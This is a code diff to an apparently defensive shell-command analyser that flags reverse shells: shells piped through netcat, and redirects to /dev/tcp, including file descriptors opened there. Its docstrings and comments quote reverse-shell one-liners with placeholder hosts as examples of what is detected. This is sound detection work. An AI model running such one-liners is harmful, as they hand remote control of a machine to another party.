@@ -25,12 +25,38 @@ if TYPE_CHECKING:
 def pipeline(walker: Walker, stages: list[Node], stdin: Stdin) -> None:
     current = stdin
     saved_cwd = walker.cwd
+    _piped_shell(walker, stages)
     for stage in stages:
         # Each stage of a pipeline runs in its own subshell: a `cd` there does not leak.
         walker.cwd = saved_cwd
         walker.visit(stage, current)
         current = _stdout(walker, stage, current)
     walker.cwd = saved_cwd
+
+
+def _piped_shell(walker: Walker, stages: list[Node]) -> None:
+    """`nc HOST 4444 | sh | nc HOST 4445`, `cat fifo | sh -i 2>&1 | nc HOST 4444 > fifo`: a shell whose input or
+    output is a network connection in the same pipeline is driven from the other end."""
+    names = [n for s in stages for n in _stage_names(walker, s)]
+    from agentguard.analysis.dispatch import SHELLS
+    from agentguard.analysis.network import CONNECTORS
+
+    if any(n in SHELLS for n in names) and any(n in CONNECTORS for n in names):
+        source = " | ".join(_text(s) for s in stages)
+        walker.effects.append(Effect.make(Kind.NETWORK_SHELL, "a network peer", "pipes a shell through a "
+                                          "network connection", source=source))  # fmt: skip
+
+
+def _stage_names(walker: Walker, stage: Node) -> list[str]:
+    """The command names of a pipeline stage (tree-sitter nests `a | b 2>&1 | c` as a pipeline in a stage)."""
+    node = stage.child_by_field_name("body") if stage.type == "redirected_statement" else stage
+    if node is not None and node.type == "pipeline":
+        return [n for s in node.named_children for n in _stage_names(walker, s)]
+    if node is None or node.type != "command":
+        return []
+    words = _command_words(node)
+    first = walker.expander().expand(words[0]) if words else None
+    return [first.text.rsplit("/", 1)[-1]] if first is not None and first.known else []
 
 
 def redirected_statement(walker: Walker, node: Node, stdin: Stdin) -> None:
@@ -138,7 +164,8 @@ def _reverse_shell(walker: Walker, node: Node, redirects: list[Node]) -> str | N
     if name not in SHELLS and name not in ("python", "python3", "perl", "ruby", "php", "nc", "telnet"):
         return None
     targets = [_text(c).strip("'\"") for r in redirects for c in r.named_children if c.type != "file_descriptor"]
-    return next((t for t in targets if t.startswith(NET_DEVICES)), None)
+    wired = [walker.network_fds[t.lstrip("&")] for t in targets if t.lstrip("&") in walker.network_fds]
+    return next((t for t in targets if t.startswith(NET_DEVICES)), wired[0] if wired else None)
 
 
 def redirect_effects(walker: Walker, redirect: Node, source: str) -> None:
@@ -155,6 +182,9 @@ def redirect_effects(walker: Walker, redirect: Node, source: str) -> None:
         return
     if word.known and word.text.startswith(NET_DEVICES):  # bash opens a connection: `> /dev/tcp/HOST/PORT`
         walker.effects.append(_connection(word.text, source))
+        descriptor = next((c for c in redirect.children if c.type == "file_descriptor"), None)
+        if descriptor is not None:  # `exec 5<>/dev/tcp/…`: later `<&5` / `>&5` use the connection
+            walker.network_fds[_text(descriptor)] = word.text
         return
     found = paths.resolve(word, walker.cwd)
     if found is None:
